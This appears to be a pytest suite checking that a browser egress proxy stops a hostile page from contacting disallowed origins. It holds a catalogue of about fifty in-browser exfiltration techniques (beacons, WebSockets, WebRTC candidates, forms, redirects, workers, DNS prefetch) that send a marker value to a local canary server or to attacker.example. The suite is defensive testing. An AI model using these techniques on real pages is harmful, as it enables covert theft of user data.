"""A page cannot reach an origin that is not allowed, by any means that a browser offers.

The canary server counts connections, bytes and datagrams. As a control, the same page reaches it once it is allowed.
"""

import asyncio
import json
from collections.abc import AsyncGenerator, Iterable
from contextlib import asynccontextmanager
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.async_api import Browser

from midcourse.worlds.browser.egress.tls import Certificate
from tests.worlds.browser.guarded_page import GuardedPage, chromium, open_guarded_page, until
from tests.worlds.browser.site import Answer, ReceivedRequest, Site

pytestmark = [pytest.mark.slow, pytest.mark.asyncio(loop_scope="session")]

ADD = "const add = (tag, of) => document.body.append(Object.assign(document.createElement(tag), of));"
FORM = (
    "const form = (how) => { document.body.innerHTML = `<form action=${canary}/form ${how}><input name=a value=4111></form>`;"
    "document.forms[0].submit() };"
)

WAYS = {
    "image": "new Image().src = canary + '/image?4111'",
    "image set": "add('img', {srcset: canary + '/imageset?4111 1x'})",
    "style sheet": "add('link', {rel: 'stylesheet', href: canary + '/css?4111'})",
    "import of a style": "add('style', {textContent: `@import url(${canary}/import?4111)`})",
    "background": "document.body.style.background = `url(${canary}/background?4111)`",
    "font": "add('style', {textContent: `@font-face {font-family: x; src: url(${canary}/font?4111)} body {font-family: x}`})",
    "script": "add('script', {src: canary + '/script?4111'})",
    "module": "import(canary + '/module?4111').catch(() => 0)",
    "video": "add('video', {src: canary + '/video?4111', autoplay: true})",
    "track": "add('video', {}); document.querySelector('video').innerHTML = `<track default src=${canary}/track?4111>`",
    "object": "add('object', {data: canary + '/object?4111'})",
    "embed": "add('embed', {src: canary + '/embed?4111'})",
    "frame": "add('iframe', {src: canary + '/frame?4111'})",
    "frame of a frame": "add('iframe', {srcdoc: `<iframe src=${canary}/inner?4111></iframe>`})",
    "fetch": "fetch(canary + '/fetch?4111', {mode: 'no-cors'}).catch(() => 0)",
    "fetch that posts": "fetch(canary + '/post', {method: 'POST', mode: 'no-cors', body: '4111'}).catch(() => 0)",
    "fetch with a preflight": "fetch(canary + '/put', {method: 'PUT', body: '4111'}).catch(() => 0)",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', canary + '/xhr?4111'); x.send()",
    "beacon": "navigator.sendBeacon(canary + '/beacon', '4111')",
    "ping": "add('a', {href: '#', ping: canary + '/ping?4111'}); document.querySelector('a').click()",
    "event source": "new EventSource(canary + '/events?4111')",
    "socket": "new WebSocket(canary.replace('http', 'ws') + '/socket?4111')",
    "socket with TLS": "new WebSocket(canary.replace('http', 'wss') + '/socket?4111')",
    "transport": "new WebTransport(canary.replace('http:', 'https:') + '/transport?4111').ready.catch(() => 0)",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${canary}/worker?4111', {mode: 'no-cors'})`])))",
    "import of a worker": "new Worker(URL.createObjectURL(new Blob([`importScripts('${canary}/scripts?4111')`])))",
    "shared worker": "new SharedWorker('/shared.js?' + canary)",
    "service worker": "ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, '/shared.js?' + canary)",
    "prefetch": "add('link', {rel: 'prefetch', href: canary + '/prefetch?4111'})",
    "preload": "const l = document.createElement('link'); l.rel = 'preload'; l.as = 'image'; l.href = canary + '/preload?4111';"
    "document.head.append(l)",
    "preconnect": "add('link', {rel: 'preconnect', href: canary})",
    "speculation": "add('script', {type: 'speculationrules', textContent: JSON.stringify("
    "{prefetch: [{source: 'list', urls: [canary + '/speculation?4111']}]})})",
    "manifest": "add('link', {rel: 'manifest', href: canary + '/manifest?4111'})",
    "icon": "add('link', {rel: 'icon', href: canary + '/icon?4111'})",
    "call": "const c = new RTCPeerConnection({iceServers: [{urls: `stun:${datagrams}`}, "
    "{urls: `turn:${datagrams}`, username: '4111', credential: 'x'}, "
    "{urls: `turn:${tcp}?transport=tcp`, username: '4111', credential: 'x'}]});"
    "c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))",
    "transport by datagrams": "new WebTransport(`https://${datagrams}/transport?4111`).ready.catch(() => 0)",
    "candidates of a call": "(async () => { const [a, b] = [new RTCPeerConnection(), new RTCPeerConnection()];"
    "a.createDataChannel('x'); await a.setLocalDescription(); await b.setRemoteDescription(a.localDescription);"
    "await b.setLocalDescription(); await a.setRemoteDescription(b.localDescription);"
    "for (const there of [`udp 2122260223 ${datagrams.replace(':', ' ')} typ host`,"
    "`tcp 1518280447 ${tcp.replace(':', ' ')} typ host tcptype passive`])"
    "await a.addIceCandidate({candidate: `candidate:1 1 ${there}`, sdpMLineIndex: 0}) })()",
    "payment": "new PaymentRequest([{supportedMethods: canary + '/payment?4111'}],"
    "{total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment().catch(() => 0)",
    "identity": "navigator.credentials.get({identity: {providers: [{configURL: canary + '/identity?4111', clientId: '1'}]}})"
    ".catch(() => 0)",
    "what is fetched later": "fetchLater(canary + '/later', {method: 'POST', body: '4111', activateAfter: 0})",
    "style of a shadow": "const h = document.createElement('div'); document.body.append(h);"
    "h.attachShadow({mode: 'closed'}).innerHTML = `<style>:host {background: url(${canary}/shadow?4111)}</style>x`",
    "redirect of a fetch": "fetch('/away?' + canary + '/refetch', {mode: 'no-cors'}).catch(() => 0)",
    "redirect of an image": "new Image().src = '/away?' + canary + '/reimage'",
    "pop-up": "window.open(canary + '/popup?4111')",
    "pop-up without opener": "window.open(canary + '/noopener?4111', '_blank', 'noopener')",
    "login of the browser": "new Image().src = canary.replace('://', '://4111:4111@') + '/login'",
}
LEAVING = {
    "download": "const a = document.createElement('a'); a.href = canary + '/download?4111'; a.download = 'x'; a.click()",
    "navigation": "location.href = canary + '/go?4111'",
    "replacement": "location.replace(canary + '/replace?4111')",
    "link": "add('a', {href: canary + '/link?4111'}); document.querySelector('a').click()",
    "form": "form('method=get')",
    "form that posts": "form('method=post')",
    "form in a new tab": "form('method=post target=_blank')",
    "refresh": "document.head.innerHTML += `<meta http-equiv=refresh content='0;url=${canary}/refresh?4111'>`",
    "redirect of a page": "location.href = '/away?' + canary + '/repage'",
    "redirect of a form": "document.body.innerHTML = `<form method=post action='/kept?${canary}/reform'></form>`;"
    "document.forms[0].submit()",
}
"""Ways in which the page itself goes away."""


def hostile_site() -> Site:
    def redirect(status: int, asked: ReceivedRequest) -> Answer:
        return Answer(status=status, fields={"Location": asked.path.partition("?")[2] + "?4111"})

    shared = "fetch(location.search.slice(1) + '/shared?4111', {mode: 'no-cors'})"
    return Site(
        {
            "/": "<title>Attacked</title><body>4111",
            "/away": lambda asked: redirect(302, asked),
            "/kept": lambda asked: redirect(307, asked),
            "/shared.js": Answer(shared, kind="text/javascript"),
        }
    )


class Datagrams(asyncio.DatagramProtocol):
    def __init__(self) -> None:
        self.received: list[bytes] = []

    def datagram_received(self, data: bytes, addr: object) -> None:
        self.received.append(data)


@asynccontextmanager
async def datagrams() -> AsyncGenerator[tuple[str, Datagrams]]:
    loop = asyncio.get_running_loop()
    transport, protocol = await loop.create_datagram_endpoint(Datagrams, local_addr=("127.0.0.1", 0))
    host, port = transport.get_extra_info("sockname")
    try:
        yield f"{host}:{port}", protocol
    finally:
        transport.close()


async def try_everything(here: GuardedPage, site: Site, canary: Site, udp: str) -> None:
    where = f"const canary = {canary.url!r}, datagrams = {udp!r}, tcp = {urlsplit(canary.url).netloc!r};{ADD}{FORM}"
    for script in WAYS.values():
        await here.run(f"try {{ {where}{script} }} catch (refused) {{}}")
    for script in LEAVING.values():
        page = await here.page.context.new_page()
        await page.goto(f"{site.url}/")
        await page.evaluate(f"() => {{ {where}{script} }}")


def paths(found: Iterable[str]) -> set[str]:
    """The last part of the path of each request or URL."""
    return {urlsplit(each.rpartition(" ")[2]).path.strip("/") for each in found}


TELLING = {
    *("background", "beacon", "css", "download", "embed", "events", "fetch", "font", "form", "frame", "go", "image"),
    *("imageset", "import", "inner", "link", "module", "noopener", "object", "popup", "post", "prefetch", "preload"),
    *("put", "refetch", "reform", "refresh", "reimage", "repage", "replace", "script", "scripts", "shadow", "shared"),
    *("speculation", "video", "worker", "xhr"),
}
"""Ways that reach the canary as requests, once it is allowed. Sockets, calls and preconnections are not requests."""


async def test_page_cannot_reach_an_origin_that_is_not_allowed(browser: Browser) -> None:
    async with hostile_site().served() as site, Site().served() as canary, datagrams() as (udp, received):
        async with open_guarded_page(browser, site) as here:
            here.outbox.attended = True  # nothing waits: what is stopped is stopped by the list alone
            await try_everything(here, site, canary, udp)
            refused: set[str] = set()

            def all_tried() -> bool:
                refused.update(refusal.what for refusal in here.proxy.outbox.take_refusals())
                tunnel = f"CONNECT {urlsplit(canary.url).netloc}"
                return paths(refused) >= TELLING and tunnel in refused

            await until(all_tried)
        assert (canary.connections, canary.received, received.received) == (0, 0, [])


async def test_same_page_reaches_the_origin_once_it_is_allowed(browser: Browser) -> None:
    async with hostile_site().served() as site, Site().served() as canary, datagrams() as (udp, received):
        async with open_guarded_page(browser, site, {canary.url: {}}) as here:
            here.outbox.attended = True
            await try_everything(here, site, canary, udp)
            await until(lambda: {*TELLING, "socket"} <= paths(asked.path for asked in canary.asked))
        assert received.received == [], "there is no policy for datagrams, so none are sent"


async def test_browser_looks_up_no_name_itself(tmp_path: Path) -> None:
    """Otherwise an attacker's name server could read data in the name."""
    log = tmp_path / "net.json"
    async with (
        chromium(Certificate(), f"--log-net-log={log}") as browser,
        hostile_site().served() as site,
        open_guarded_page(browser, site) as here,
    ):
        await here.run("new Image().src = 'http://4111.attacker.example/'")
        await here.run(ADD + "add('link', {rel: 'dns-prefetch', href: 'http://4111.attacker.example'})")
        await here.run(ADD + "add('link', {rel: 'preconnect', href: 'https://4111.attacker.example'})")
        call = "new RTCPeerConnection({iceServers: [{urls: 'stun:4111.attacker.example'}]})"
        await here.page.evaluate(
            f"async () => {{ const c = {call}; c.createDataChannel('x'); await c.setLocalDescription();"
            "await new Promise(done => { c.onicegatheringstatechange = () => c.iceGatheringState === 'complete' && done() }) }"
        )
        await until(lambda: any("4111" in refusal.what for refusal in here.proxy.outbox.take_refusals()))
    written = json.loads(log.read_text())
    names = {number: name for name, number in written["constants"]["logEventTypes"].items()}
    asked = [
        event for event in written["events"] if names[event["type"]].startswith(("HOST_RESOLVER", "DNS_TRANSACTION"))
    ]
    assert asked, "the log would show it"
    assert "attacker" not in json.dumps(asked)
